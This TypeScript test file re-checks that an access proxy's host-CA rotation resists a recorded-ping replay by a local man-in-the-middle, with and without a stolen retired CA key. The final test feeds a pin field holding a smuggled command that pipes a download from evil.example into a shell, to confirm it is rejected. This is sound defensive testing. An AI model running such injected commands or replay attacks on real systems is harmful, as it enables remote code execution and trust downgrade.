/**
 * The review's attack on the host CA's rotation (kept for re-testing): a CA's
 * word recorded from an unauthenticated /v1/ping during a rotation, played
 * back after the final standby by a man in the middle, to bring the retired
 * CA back into the trust of an agent or a workstation that followed the
 * rotation: with the retired key (a suspected compromise) to impersonate the
 * proxy, without it to make the peer drop the new CA. Each word is good for
 * ten minutes (pki/endorsement.ts) and an unverified ping only ever adds to
 * what a peer trusts (api/trust.ts learnHostCas), so each case is refused.
 * Within the ten minutes after the recording, a peer that pinned only the
 * new CA does trust the old one again: that is the window docs/rotation.md
 * names (the proxy needs it to take in agents joining mid-rotation).
 */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import https from "node:https";
import type { AddressInfo } from "node:net";
import { startProxy, type RunningProxy } from "../src/proxy/server.ts";
import { loadConfig } from "../src/config/load.ts";
import { resolveCaller, type Caller } from "../src/proxy/caller.ts";
import { addToken } from "../src/proxy/admin.ts";
import { joinAgent } from "../src/proxy/join.ts";
import { rotateAuthority } from "../src/proxy/rotation.ts";
import { pemOf } from "../src/proxy/cluster.ts";
import { createAuthority, type CaKey } from "../src/pki/authority.ts";
import { issueServerCert } from "../src/pki/certificate.ts";
import { generateKeyPair, privateKeyToPem, publicKeyToPem } from "../src/pki/keys.ts";
import { caPin } from "../src/pki/pin.ts";
import { x509 } from "../src/pki/x509.ts";
import { ApiClient, isUntrustedTls } from "../src/api/client.ts";
import { ENDORSEMENT_TTL_S, SKEW_S } from "../src/pki/endorsement.ts";
import { learnHostCas, proxyBaseUrl } from "../src/api/trust.ts";
import type { PingResponse } from "../src/api/types.ts";
import { agentTrust } from "../src/agent/rotation.ts";
import { saveAgentState, type AgentState } from "../src/agent/state.ts";
import type { Phase } from "../src/pki/rotation.ts";
import { tempDir } from "./helpers/azgate.ts";
import { FakeClock } from "./helpers/fake-clock.ts";

const CLUSTER = "attack";
let proxy: RunningProxy;
let admin: Caller;
const clock = new FakeClock();
const servers: https.Server[] = [];

const rotate = (phase: Phase) => rotateAuthority(proxy.ctx, admin, "host", { mode: "manual", phase });
const realPing = () => new ApiClient({ baseUrl: proxy.url, insecure: true }).call<PingResponse>("GET", "/v1/ping");
const pinOf = (pem: string) => caPin(new x509.X509Certificate(pem));
/** The words a recorded ping carries for the CA `pem` (one while a rotation runs: the other CA's). */
async function wordsFor(ping: PingResponse, pem: string) {
  const pin = await pinOf(pem);
  const words = [];
  for (const e of ping.ca_endorsements ?? []) if ((await pinOf(e.pem)) === pin) words.push(e);
  return words;
}

/** A man in the middle on 127.0.0.1: TLS from `ca` (a stolen retired CA, or any CA of its own), answering /v1/ping with `ping`. */
async function mitm(ca: CaKey, ping: unknown): Promise<string> {
  const kp = await generateKeyPair();
  const now = new Date();
  const cert = await issueServerCert({ ca, publicKey: kp.publicKey, dnsNames: ["localhost"], ips: ["127.0.0.1"], now: new Date(now.getTime() - 60_000), notAfter: new Date(now.getTime() + 3_600_000) });
  const server = https.createServer({ key: await privateKeyToPem(kp.privateKey), cert: cert.toString("pem") }, (req, res) => {
    res.setHeader("content-type", "application/json");
    res.end(JSON.stringify(req.url === "/v1/ping" ? ping : { error: { code: "not_found", message: "mitm" } }));
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", () => r()));
  servers.push(server);
  return `127.0.0.1:${(server.address() as AddressInfo).port}`;
}

let retiredPem: string;
let newPem: string;
let stolenRetiredKey: CaKey;
let capturedPing: PingResponse;

beforeAll(async () => {
  const config = loadConfig({ flags: [[["proxy", "listen"], "127.0.0.1:0"], [["cluster_name"], CLUSTER], [["auth", "second_factor"], "off"]] });
  proxy = await startProxy({ ...config, data_dir: tempDir("azgate-attack-rotation-") }, clock);
  admin = await resolveCaller(proxy.ctx, { kind: "local-admin", name: "@local-admin", roles: [], traits: {}, azure_identities: [], login_method: "local", session_id: proxy.ctx.localAdminSession });

  // A full, legitimate host CA rotation. The attacker records one /v1/ping while it runs (unauthenticated, anyone can).
  const before = proxy.ctx.cluster.views.host.current;
  stolenRetiredKey = { cert: before.cert, key: before.key }; // what "suspected key compromise" assumes the attacker holds
  retiredPem = pemOf(before.cert);
  await rotate("init");
  capturedPing = await realPing();
  expect(capturedPing.ca_endorsements).toHaveLength(2);
  for (const p of ["update_clients", "update_servers", "standby"] as const) await rotate(p);
  newPem = pemOf(proxy.ctx.cluster.views.host.current.cert);
  // Sanity: the rotation is over, the old CA is retired, the real ping offers no endorsement any more.
  const after = await realPing();
  expect(after.ca_endorsements).toBeUndefined();
  expect(after.retired_ca_pins?.map((r) => r.pin)).toEqual([await pinOf(retiredPem)]);
}, 60_000);

afterAll(async () => {
  for (const s of servers) s.close();
  await proxy?.close();
});

/** An agent that followed the rotation: it trusts only the new CA (and, as docs/rotation.md advises, is configured with the new pin). */
async function followedAgent(proxyAddr: string, pins: string[] | undefined) {
  const { token } = await addToken(proxy.ctx, admin, "app", "10m");
  const key = await generateKeyPair();
  const joined = await joinAgent(proxy.ctx, { token, type: "app", public_key_pem: await publicKeyToPem(key.publicKey) });
  expect(await pinOf(joined.host_ca_pem)).toBe(await pinOf(newPem));
  const dataDir = tempDir("azgate-attack-agent-");
  let state: AgentState = { identity: { cluster_name: CLUSTER, host_id: joined.host_id, proxy_addr: proxyAddr, host_ca_pem: newPem, host_ca_pems: [newPem], joined: clock.date().toISOString() }, keyPem: await privateKeyToPem(key.privateKey), certPem: joined.cert_pem };
  await saveAgentState(dataDir, state);
  const trust = agentTrust({ dataDir, proxyAddr, pins, state: () => state, setState: (s) => (state = s), renew: async () => undefined, log: () => undefined, clock });
  return { trust, state: () => state };
}

/** Past the recorded words' window, and the clock skew forgiven: the playback comes "later". */
const later = () => clock.tick((ENDORSEMENT_TTL_S + SKEW_S + 60) * 1000);
const codeOf = (p: Promise<unknown>) => p.then(() => "accepted", (e: { code?: string }) => e.code);

describe("within the recorded words' ten minutes", () => {
  it("with no key: offering only the retired CA and the new CA's word for it adds the retired CA at most, never drops the new one (an unverified ping only adds)", async () => {
    const own = await createAuthority("host", "mitm", clock.date());
    const newToOld = await wordsFor(capturedPing, retiredPem);
    const addr = await mitm(own, { ...capturedPing, host_ca_pems: [retiredPem], ca_pins: [await pinOf(retiredPem)], ca_endorsements: newToOld });
    const agent = await followedAgent(addr, undefined);
    await agent.trust.learn();
    // What it trusted stays, and first: whoever answered unverified does not reorder it either.
    expect(agent.state().identity.host_ca_pems).toEqual([newPem, retiredPem]);
  });
});

describe("a finished rotation's word played back after standby", () => {
  beforeAll(later);

  it("with the retired (stolen) key: an agent pinned to the new CA does not trust the retired one again, and the attacker's TLS does not verify", async () => {
    const addr = await mitm(stolenRetiredKey, capturedPing);
    const agent = await followedAgent(addr, [await pinOf(newPem)]);
    // The agent's dial fails its TLS handshake (the retired CA), so it learns from the unauthenticated ping (agent/rotation.ts learn).
    await agent.trust.learn();
    expect(agent.state().identity.host_ca_pems).toEqual([newPem]);
    const handshake = await new ApiClient({ baseUrl: proxyBaseUrl(addr), host_ca_pems: agent.state().identity.host_ca_pems }).call("GET", "/v1/ping").catch((e: Error) => e);
    expect(isUntrustedTls(handshake)).toBe(true);
  });

  it("with the retired key: a workstation that trusts the new CA keeps it alone and adds nothing", async () => {
    const addr = await mitm(stolenRetiredKey, capturedPing);
    const err = await learnHostCas({ baseUrl: proxyBaseUrl(addr), proxy: addr, known: [newPem], cluster: CLUSTER, command: (p) => `azgate login --ca-pin ${p}`, now: clock.date() }).catch((e: Error & { code?: string }) => e);
    // The ping offers the new CA too (it is the captured one): the workstation keeps it, and adds nothing.
    expect(err).toMatchObject({ trusted: [newPem] });
  });

  it("with no key: offering only the retired CA and the new CA's word for it makes no peer drop the new CA (an unverified ping only adds)", async () => {
    const own = await createAuthority("host", "mitm", clock.date()); // any CA: the handshake only has to fail
    const newToOld = await wordsFor(capturedPing, retiredPem);
    expect(newToOld).toHaveLength(1);
    const addr = await mitm(own, { ...capturedPing, host_ca_pems: [retiredPem], ca_pins: [await pinOf(retiredPem)], ca_endorsements: newToOld });
    const agent = await followedAgent(addr, undefined);
    expect(await codeOf(agent.trust.learn())).toBe("cert_untrusted");
    expect(agent.state().identity.host_ca_pems).toEqual([newPem]);
    expect(await codeOf(learnHostCas({ baseUrl: proxyBaseUrl(addr), proxy: addr, known: [newPem], cluster: CLUSTER, command: (p) => p, now: clock.date() }))).toBe("cert_untrusted");
    // Back on the real network the agent reaches the real proxy as before.
    const realAddr = proxy.url.replace("https://", "");
    expect((await learnHostCas({ baseUrl: proxy.url, proxy: realAddr, known: agent.state().identity.host_ca_pems!, cluster: CLUSTER, command: (p) => p, now: clock.date() })).trusted).toEqual([newPem]);
  });

  it("no chain across rotations: after a second rotation, the words recorded in both do not take a peer that trusts the newest CA back to the oldest", async () => {
    const bPem = newPem;
    await rotate("init");
    const ping2 = await realPing();
    for (const p of ["update_clients", "update_servers", "standby"] as const) await rotate(p);
    await later();
    const cPem = pemOf(proxy.ctx.cluster.views.host.current.cert);
    // The two words of the chain: C's for B (the second rotation), B's for A (the first).
    const chain = [...(await wordsFor(ping2, bPem)), ...(await wordsFor(capturedPing, retiredPem))];
    expect(chain).toHaveLength(2);
    const addr = await mitm(stolenRetiredKey, { ...capturedPing, host_ca_pems: [retiredPem, bPem], ca_endorsements: chain });
    expect(await codeOf(learnHostCas({ baseUrl: proxyBaseUrl(addr), proxy: addr, known: [cPem], cluster: CLUSTER, command: (p) => p, now: clock.date() }))).toBe("cert_untrusted");
  });

  it("a ping from whoever answers is read bounded and by schema: an endless answer, too many CAs, or text of its own in a pin are refused, saying so", async () => {
    const own = await createAuthority("host", "mitm", clock.date());
    const ask = (addr: string) => learnHostCas({ baseUrl: proxyBaseUrl(addr), proxy: addr, known: [newPem], cluster: CLUSTER, command: (p) => p, now: clock.date() }).catch((e: Error & { code?: string }) => e);
    const big = await ask(await mitm(own, { ...capturedPing, padding: "x".repeat(200_000) }));
    expect((big as Error).message).toMatch(/larger than 65536 bytes/);
    const many = await ask(await mitm(own, { ...capturedPing, host_ca_pems: Array(50).fill(retiredPem) }));
    expect(many).toMatchObject({ code: "cert_untrusted", message: expect.stringContaining("host_ca_pems") });
    const text = await ask(await mitm(own, { ...capturedPing, ca_pins: ["sha256:0000; curl evil.example | sh"] }));
    expect(text).toMatchObject({ code: "cert_untrusted", message: expect.stringContaining("ca_pins") });
    expect((text as Error).message).not.toContain("evil.example");
  });
});
